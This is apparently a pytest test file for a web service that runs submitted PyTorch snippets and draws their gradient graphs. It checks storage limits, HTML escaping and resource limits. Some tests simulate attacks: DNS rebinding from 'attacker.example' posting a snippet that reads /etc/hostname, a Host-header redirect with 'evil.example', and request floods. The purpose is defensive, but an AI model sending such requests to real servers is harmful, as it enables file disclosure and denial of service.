        assert httpx.get(f"{base}/api/runs/{answered[0]}/backward.svg", timeout=30).status_code == 200
        assert httpx.post(f"{base}/api/runs", json={"code": SQUARE}, timeout=30).json()["status"] == "ok"
    finally:
        stop(server)


def test_retention_keeps_storage_bounded(tmp_path):
    store = Store(database_url("", tmp_path))
    for i in range(30):
        store.save_run(f"run{i}", "ok", b"{}")
    assert store.prune(keep_runs=10, keep_days=0) == 20
    assert store.load_run("run29") is not None and store.load_run("run0") is None


def test_a_stream_of_huge_unique_runs_keeps_the_database_under_keep_mb(make_client, tmp_path):
    with make_client(
        keep_mb=1, rate_limit_runs_per_min=0, rate_limit_stored_mb_per_hour=0, max_client_concurrent_runs=0
    ) as limited:
        store = limited.app.state.store
        ids = []
        for i in range(60):  # about 32 KB each once compressed: twice the budget
            code = f"import random\nprint(random.randbytes(30_000).hex())  # {i}\n"
            answer = limited.post("/api/runs", json={"code": code})
            assert answer.status_code == 201 and answer.json()["status"] == "ok", answer.text
            ids.append(answer.json()["id"])
        limited.app.state.pruner.flush()
        assert store.stored_bytes() <= 1 << 20
        assert limited.get(f"/api/runs/{ids[-1]}").status_code == 200
        assert limited.get(f"/api/runs/{ids[0]}").status_code == 404
        with store.engine.connect() as connection:
            connection.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
        assert (tmp_path / "data" / "gradwalk.db").stat().st_size <= 1 << 20
        run = limited.post("/api/runs", json={"code": SQUARE}).json()  # and the next benign run is right
        assert run["status"] == "ok" and grad_of(run, "x") == [4.0]


@pytest.mark.server
def test_schemathesis_finds_no_5xx_and_no_response_that_breaks_the_schema(tmp_path):
    port = free_port()
    server = serve(tmp_path, port)
    try:
        done = subprocess.run(
            [
                str(Path(sys.executable).parent / "schemathesis"),
                "run",
                f"http://127.0.0.1:{port}/openapi.json",
                "--checks",
                "all",
                "--max-examples",
                "30",
                "--request-timeout",
                "30",
                "--generation-deterministic",
            ],
            capture_output=True,
            text=True,
            timeout=600,
            check=False,
            cwd=tmp_path,  # where schemathesis keeps its example database
        )
        assert done.returncode == 0, done.stdout[-3000:]
        assert "No issues found" in done.stdout
    finally:
        stop(server)


def test_pages_carry_the_run_json_and_link_their_twin(client):
    home = client.get("/")
    assert home.status_code == 200 and 'id="examples-data"' in home.text
    for url in re.findall(r'(?:src|href)="([^"#]*)"', home.text):  # everything the page loads is served here
        assert url.startswith("/") and client.get(url).status_code == 200, url
    run = client.post("/api/runs", json={"code": SQUARE + "\nprint('</script><b>')"}).json()
    page = client.get(f"/runs/{run['id']}")
    assert page.status_code == 200
    assert page.headers["link"] == f'</api/runs/{run["id"]}>; rel="alternate"; type="application/json"'
    inline = page.text.split('<script type="application/json" id="run-data">')[1].split("</script>")[0]
    assert json.loads(inline) == run and run["code"].startswith(SQUARE)
    for unknown in ("nope", "no-such-id", "x" * 40):
        missing = client.get(f"/runs/{unknown}")
        assert missing.status_code == 404 and 'id="missing-run"' in missing.text


def test_the_page_of_a_big_run_carries_a_folded_view(make_client):
    code = "cell = nn.RNNCell(2, 3)\nh = torch.zeros(1, 3)\nfor t in range(10):\n    h = cell(torch.ones(1, 2), h)\n"
    with make_client(page_fold_nodes=20) as small:
        run = small.post("/api/runs", json={"code": code}).json()
        page = small.get(f"/runs/{run['id']}")
    assert page.status_code == 200 and 'data-fold-nodes="20"' in page.text
    inline = json.loads(page.text.split('<script type="application/json" id="run-data">')[1].split("</script>")[0])
    assert inline["fold"]["budget"] == 20 and inline["id"] == run["id"] and inline["code"] == code
    assert any(n["kind"] == "group" and n["count"] == 8 for n in inline["forward"]["nodes"])


def test_a_run_too_big_to_carry_inline_is_read_from_the_api_and_not_made_one_file(make_client, monkeypatch):
    """Inlined in a document each `<` of a run's JSON takes six bytes: a stored run of 60 MB of them made a 360 MB
    page and one-file run, built in the server's memory for every visit (1.5 GB and the event loop held for
    seconds). Past GRADWALK_PAGE_INLINE_MAX_BYTES the page names the run and reads it from the API."""
    code = "print('<' * 100_000)\n" + SQUARE
    with make_client(page_inline_max_bytes=65_536, max_output_bytes=200_000) as small:
        run = small.post("/api/runs", json={"code": code}).json()
        page = small.get(f"/runs/{run['id']}")
        assert page.status_code == 200 and 'id="run-data"' not in page.text and len(page.content) < 65_536
        ref = page.text.split('<script type="application/json" id="run-ref">')[1].split("</script>")[0]
        assert json.loads(ref) == run["id"]
        assert small.get(f"/api/runs/{run['id']}?fold=1000").json() == run  # what the page reads
        from app import views
        from app.embed import standalone_html

        made = []
        monkeypatch.setattr(views, "standalone_html", lambda *a, **k: made.append(1) or standalone_html(*a, **k))
        for _ in range(3):  # (found too big once: not folded and measured again at every request, 10 s each)
            whole = small.get(f"/api/runs/{run['id']}.html")
            assert whole.status_code == 413 and "GRADWALK_PAGE_INLINE_MAX_BYTES" in whole.json()["detail"]
        assert len(made) == 1
        short = small.post("/api/runs", json={"code": SQUARE}).json()
        assert 'id="run-data"' in small.get(f"/runs/{short['id']}").text
        assert small.get(f"/api/runs/{short['id']}.html").status_code == 200


def test_without_the_sandbox_the_server_answers_only_for_its_own_names(tmp_path, in_process, processes_apart):
    """DNS rebinding: a page its user opens at `http://attacker.example:8000` has that name answer 127.0.0.1, and its
    script, of the same origin as a server on loopback, posts snippets and reads what they print (Host still
    `attacker.example:8000`). Without the jail a snippet reads the user's files. Such a server answers loopback names
    alone, or GRADWALK_ALLOWED_HOSTS; with the jail, any name unless that setting names some."""
    attacker = {"Host": "attacker.example:8000"}
    unjailed = Settings(data_dir=tmp_path, sandbox="off")
    with TestClient(create_app(unjailed, sandbox=in_process, apart=processes_apart)) as client:
        for host in ("localhost:8000", "127.0.0.1:8000", "[::1]:8000", "gradwalk.localhost", "LOCALHOST."):
            assert client.get("/healthz", headers={"Host": host}).status_code == 200, host
        refused = client.post("/api/runs", json={"code": "print(open('/etc/hostname').read())"}, headers=attacker)
        assert refused.status_code == 400 and "GRADWALK_ALLOWED_HOSTS" in refused.json()["detail"]
        for path in ("/healthz", "/", "/api/examples", "/static/js/pane.js"):
            assert client.get(path, headers=attacker).status_code == 400, path
        for host in ("127.0.0.1.attacker.example", "localhost.attacker.example:8000", "[::1].attacker.example"):
            assert client.get("/healthz", headers={"Host": host}).status_code == 400, host

    async def answer(scope, receive, send):
        await PlainTextResponse("ok")(scope, receive, send)

    def status(host: str, **settings: str) -> int:
        checked = Settings(**settings)
        known = KnownHost(answer, checked.allowed_host_names(), loopback_only=checked.sandbox == "off")
        return TestClient(known).get("/", headers={"Host": host}).status_code

    assert status("attacker.example") == 200  # (with the jail, a public server: anyone reaches it anyway)
    named = {"allowed_hosts": "Gradwalk.example.org, localhost"}
    for sandbox in ("on", "off"):
        assert status("gradwalk.example.org:443", sandbox=sandbox, **named) == 200
        assert status("localhost", sandbox=sandbox, **named) == 200
        assert status("attacker.example", sandbox=sandbox, **named) == 400
        assert status("127.0.0.1", sandbox=sandbox, **named) == 400


def test_without_the_sandbox_the_docs_page_warns(tmp_path):
    app = create_app(Settings(data_dir=tmp_path, sandbox="off"))
    assert "WITHOUT the jail" in app.openapi()["info"]["description"]
    assert not create_app(Settings(data_dir=tmp_path)).openapi()["info"].get("description")


def test_docs_page_uses_no_cdn(client):
    page = client.get("/docs")
    assert page.status_code == 200 and "/static/vendor/swagger-ui/swagger-ui-bundle.js" in page.text
    assert "https://" not in page.text and "http://" not in page.text
    assert client.get("/static/vendor/swagger-ui/swagger-ui-bundle.js").status_code == 200
    assert client.get("/redoc").status_code == 404


@pytest.mark.server
def test_many_views_of_a_big_run_at_once_keep_the_server_small_and_others_served(tmp_path):
    """One client asks for many folded views and DOT exports of a 10k-node run at once: the server makes them in
    its drawing slots, one at a time for that client (429 for the rest), stays under 1 GiB, keeps no entry per
    view, and answers another client meanwhile."""
    deep = "model = nn.Sequential(*[m for _ in range(2000) for m in (nn.Linear(16, 16), nn.ReLU())])\n"
    big = parse_run(dumps(capture(deep + "model(torch.randn(8, 16)).pow(2).mean().backward()\n", **CAPTURE)))
    store = Store(database_url("", tmp_path))
    store.save_run("bigRun000001", "ok", encode(big))
    store.close()
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    server = serve(tmp_path, port)
    try:
        resting = peak_rss_mib(server.pid)
        asks = [f"/api/runs/bigRun000001?fold={500 + i}" for i in range(12)]
        asks += [
            f"/api/runs/bigRun000001/{view}.dot?fold={700 + i}" for i in range(6) for view in ("forward", "backward")
        ]
        asks += ["/api/runs/bigRun000001/forward.dot", "/api/runs/bigRun000001/backward.svg"]
        answers: list[int] = []

        def attack(paths):
            with httpx.Client(base_url=base, timeout=60) as attacker:
                answers.extend(attacker.get(path).status_code for path in paths)

        threads = [threading.Thread(target=attack, args=(asks[i::8],)) for i in range(8)]
        for thread in threads:
            thread.start()
        other = httpx.Client(base_url=base, timeout=60, transport=httpx.HTTPTransport(local_address="127.0.0.2"))
        with other:
            created = other.post("/api/runs", json={"code": SQUARE})
            viewed = other.get("/api/runs/bigRun000001?fold=1000")
            healthy = other.get("/healthz")
        for thread in threads:
            thread.join(300)
        assert (created.status_code, viewed.status_code, healthy.status_code) == (201, 200, 200)
        assert set(answers) <= {200, 413, 429} and 200 in answers and len(answers) == len(asks), answers
        peak = peak_rss_mib(server.pid)
        print(f"server peak {resting:.0f} -> {peak:.0f} MiB; answers {sorted(answers)}")
        assert peak < 1024, f"the server grew from {resting:.0f} to {peak:.0f} MiB"
    finally:
        stop(server)
    store = Store(database_url("", tmp_path))
    try:
        kept = store.engine.connect().execute(text("select count(*) from renders")).scalar()
    finally:
        store.close()
    assert kept <= 3, f"{kept} views and pictures kept for one run"  # the page's view, a whole graph's DOT and SVG


HEALTH_PROBER = """
import json, select, sys, time
import httpx
transport = httpx.HTTPTransport(local_address="127.0.0.2")
waits = []
with httpx.Client(base_url=f"http://127.0.0.1:{sys.argv[1]}", timeout=30, transport=transport) as other:
    other.get("/healthz")
    print("asking", flush=True)
    while not select.select([sys.stdin], [], [], 0.01)[0]:
        started = time.monotonic()
        assert other.get("/healthz").status_code == 200
        waits.append(time.monotonic() - started)
print(json.dumps(waits))
"""
CHAIN_2500 = (
    "x = torch.randn(8, 8, requires_grad=True)\ny = x\nfor i in range(2500):\n    y = (y * 1.0001 + 0.1).tanh()\n"
    "y.sum().backward()\n"
)


@pytest.mark.server
def test_a_big_runs_decoding_and_folding_do_not_hold_up_the_servers_other_requests(tmp_path):
    """Decoding a Run holds Python's interpreter lock: a forged 67 MB one (a tensor with six million aliases) took
    0.8 s to decode in the server's process, and `/healthz` and every other request waited for it. A view, a DOT
    and the one-file page of such a run, and a new run of 25 MB, are now worked on apart: the others are answered
    meanwhile."""
    run = json.loads(dumps(capture(SQUARE, **CAPTURE)))
    next(n for n in run["forward"]["nodes"] if n["kind"] == "tensor")["aliases"] = [f"a{i}" for i in range(6_000_000)]
    store = Store(database_url("", tmp_path))
    store.save_run("bigRun000003", "ok", json.dumps(run).encode())
    store.close()
    port = free_port()
    server = serve(tmp_path, port, env={"GRADWALK_RUN_TIMEOUT_S": "60", "GRADWALK_RUN_CPU_S": "60"})
    # /healthz asked every 10 ms from a process of its own: a thread of this one waits for this process's lock while
    # it parses the big answers
    prober = subprocess.Popen(
        [sys.executable, "-c", HEALTH_PROBER, str(port)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=120) as client:
            client.get("/api/runs/bigRun000003/backward.dot")  # (the warm process's first fork, before timing)
            assert prober.stdout.readline() == "asking\n"
            slow = []
            for path in (
                "/api/runs/bigRun000003?fold=500",
                "/api/runs/bigRun000003/forward.dot",
                "/api/runs/bigRun000003.html",
            ):
                started = time.monotonic()
                answer = client.get(path)
                slow.append(time.monotonic() - started)
                assert answer.status_code in (200, 413), (path, answer.text[:300])
            created = client.post("/api/runs", json={"code": CHAIN_2500})
        waits = json.loads(prober.communicate("stop\n", timeout=60)[0])
        assert created.status_code == 201 and created.json()["status"] == "ok", created.text[:300]
        assert len(created.json()["backward"]["nodes"]) > 7000 and len(created.content) > 20 << 20
        print(f"slow requests {[round(s, 2) for s in slow]} s; /healthz at most {max(waits):.3f} s of {len(waits)}")
        # (each decoded the 67 MB run: work that held the lock 0.3-0.8 s in place, so that a bound of 0.3 s would fail
        # on a fast machine; apart, 4 s to 6 s each on a busy machine here. Ten of the prober's 10 ms at least: work
        # done in place would have kept several of its requests waiting.)
        assert min(slow) > 0.1, slow
        # Done in the server's process, that work made /healthz wait for most of a request (0.44 s of 0.63 s, with
        # GRADWALK_APART_MIN_BYTES past the run's size). The bound is half the shortest request, measured beside it:
        # fixed bounds failed when other tests ran beside this one on 2 cores (0.24 s, 0.32 s, its requests 1.4 s).
        assert max(waits) < min(slow) / 2, f"/healthz waited {max(waits):.2f} s; the requests took {slow} s"
    finally:
        prober.kill()
        prober.wait()
        stop(server)


# A snippet Python's parser takes seconds over (CPython 3.11 parses an f-string's expressions in time that grows with
# the square of their number), and a Run of it that names no tensor: drawing it works names out from the code.
SLOW_TO_PARSE = "a = 1\ns = f'" + "{a}" * 25_000 + "'\n"
UNNAMED = {"id": "t1", "kind": "tensor", "var": None, "expr": None, "line": 2, "shape": [], "dtype": "float32"}
UNNAMED |= {"requires_grad": False, "is_leaf": True, "version": 0, "grad": None, "grad_fn": None}
UNNAMED |= {"value": {"shape": [], "dtype": "float32", "data": 1.0, "truncated": False}}


@pytest.mark.server
def test_drawing_a_run_whose_names_come_from_its_code_does_not_hold_up_the_servers_other_requests(tmp_path):
    """A Run a snippet forged without `expr` (or one stored before the capture wrote it) is named from its code when
    drawn, and Python's parser is one call that holds the interpreter lock: 75 KB of f-string held it 3 s in the
    server's process for the run's DOT and again for its one-file page, `/healthz` and every other request waiting,
    though the run is far under GRADWALK_APART_MIN_BYTES. Such drawings are done apart: the others are answered
    meanwhile."""
    run = {"id": "slowNames001", "code": SLOW_TO_PARSE, "status": "ok", "forward": {"nodes": [UNNAMED], "edges": []}}
    store = Store(database_url("", tmp_path))
    store.save_run("slowNames001", "ok", json.dumps(run).encode())
    store.close()
    port = free_port()
    server = serve(tmp_path, port)
    prober = subprocess.Popen(
        [sys.executable, "-c", HEALTH_PROBER, str(port)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=120) as client:
            client.get("/api/runs/aaaaaaaaaaaa/forward.dot")  # (a 404: the server's first request, before timing)
            assert prober.stdout.readline() == "asking\n"
            slow, answers = [], []
            for path in ("/api/runs/slowNames001/forward.dot", "/api/runs/slowNames001.html"):
                started = time.monotonic()
                answers.append(client.get(path))
                slow.append(time.monotonic() - started)
        waits = json.loads(prober.communicate("stop\n", timeout=60)[0])
        assert [a.status_code for a in answers] == [200, 200], [a.text[:300] for a in answers]
        assert '"t1" [label="{constant|' in answers[0].text  # (named from the code: no op made it)
        print(f"drawings {[round(s, 2) for s in slow]} s; /healthz at most {max(waits):.3f} s of {len(waits)}")
        assert min(slow) > 0.3, slow  # (each parsed the code: in place, work that held the lock 3 s)
        assert max(waits) < min(slow) / 2, f"/healthz waited {max(waits):.2f} s; the drawings took {slow} s"
    finally:
        prober.kill()
        prober.wait()
        stop(server)


@pytest.mark.server
def test_slow_readers_of_a_big_run_keep_the_server_small_and_others_served(tmp_path):
    """One client asks for a 40 MB run on 40 connections and reads none of its answers: each answer was made
    and held for its connection (1.7 GB for 30 of them). Its answers are made and sent a few at a time (429 for
    the rest); the server stays under 1 GiB and another client is answered meanwhile, quickly."""
    chain = (
        "x = torch.randn(8, 8, requires_grad=True)\ny = x\nfor i in range(4000):\n    y = (y * 1.0001 + 0.1).tanh()\n"
    )
    big = encode(parse_run(dumps(capture(chain + "y.sum().backward()\n", **CAPTURE))))
    assert len(big) > 30 << 20
    store = Store(database_url("", tmp_path))
    store.save_run("bigRun000002", "ok", big)
    store.close()
    port = free_port()
    server = serve(tmp_path, port)
    readers: list[socket.socket] = []
    try:
        resting = peak_rss_mib(server.pid)
        for path in ["/api/runs/bigRun000002"] * 30 + ["/api/runs/bigRun000002.html"] * 10:
            reader = socket.create_connection(("127.0.0.1", port))
            reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            reader.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
            readers.append(reader)
        time.sleep(4)  # every answer the server would make is made by now
        other = httpx.Client(
            base_url=f"http://127.0.0.1:{port}", timeout=60, transport=httpx.HTTPTransport(local_address="127.0.0.2")
        )
        with other:
            started = time.monotonic()
            created = other.post("/api/runs", json={"code": SQUARE})
            healthy = other.get("/healthz")
            seconds = time.monotonic() - started
        assert (created.status_code, healthy.status_code) == (201, 200)
        assert seconds < 5, f"another client waited {seconds:.1f} s"
        peak = peak_rss_mib(server.pid)
        print(f"server peak {resting:.0f} -> {peak:.0f} MiB")
        assert peak < 1024, f"the server grew from {resting:.0f} to {peak:.0f} MiB"
    finally:
        for reader in readers:
            reader.close()
        stop(server)


def test_a_view_and_its_two_graphs_fold_the_run_once(client, monkeypatch):
    """The page asks for a view, then each graph's DOT of it: the server folds the run for the first only."""
    import app.views

    code = "cell = nn.RNNCell(2, 3)\nh = torch.zeros(1, 3)\nfor t in range(30):\n    h = cell(torch.ones(1, 2), h)\n"
    run_id = client.post("/api/runs", json={"code": code + "h.sum().backward()"}).json()["id"]
    folds = []
    real = app.views.fold_run
    monkeypatch.setattr(app.views, "fold_run", lambda *args: folds.append(args[1:]) or real(*args))
    view = client.get(f"/api/runs/{run_id}", params={"fold": 40}).json()
    dots = [
        client.get(f"/api/runs/{run_id}/{graph}.dot", params={"fold": 40}).text for graph in ("forward", "backward")
    ]
    assert len(folds) == 1 and view["fold"]["groups"] == 1
    assert all(group["id"] in dot for dot in dots for group in view["forward"]["nodes"] if group["kind"] == "group")


def test_a_runs_page_counts_the_escapes_of_the_json_it_carries(make_client):
    """Each `<`, `>` and `&` of the JSON a page carries is six bytes there: a 3.4 MB run of them made a 17.7 MB page,
    made on the event loop at each visit (170 ms; another client's /healthz took 207 ms at the median, 596 at most,
    while one client asked for that page from four connections). Past GRADWALK_PAGE_INLINE_MAX_BYTES once escaped,
    the page names the run and reads it from the API."""
    with make_client(page_inline_max_bytes=65_536) as small:
        run = small.post("/api/runs", json={"code": "print('<' * 20_000)\n" + SQUARE}).json()
        page = small.get(f"/runs/{run['id']}")
        assert page.status_code == 200 and 'id="run-data"' not in page.text and len(page.content) < 65_536
        assert small.get(f"/runs/{small.post('/api/runs', json={'code': SQUARE}).json()['id']}").text.count("run-data")


def test_a_trailing_slash_is_not_redirected_to_the_host_the_request_named(client):
    """`/api/runs/ID/` with `Host: evil.example` was answered 307 to `http://evil.example/api/runs/ID`: a cache in
    front that ignores Host would send every reader there. The redirect names the path alone."""
    run = client.post("/api/runs/", json={"code": "x = torch.ones(1)"}).json()  # (followed: 307 keeps the POST)
    answer = client.get(f"/api/runs/{run['id']}/?fold=5", headers={"Host": "evil.example"}, follow_redirects=False)
    assert answer.status_code == 307 and answer.headers["location"] == f"/api/runs/{run['id']}?fold=5"
    assert client.get(f"/api/runs/{run['id']}/").status_code == 200
    assert client.get("/no/such/place/").status_code == 404
    answer = client.get("http://testserver//evil.example/", follow_redirects=False)  # (path `//evil.example/`)
    assert answer.headers["location"] == "/evil.example"  # (not `//evil.example`: another host)
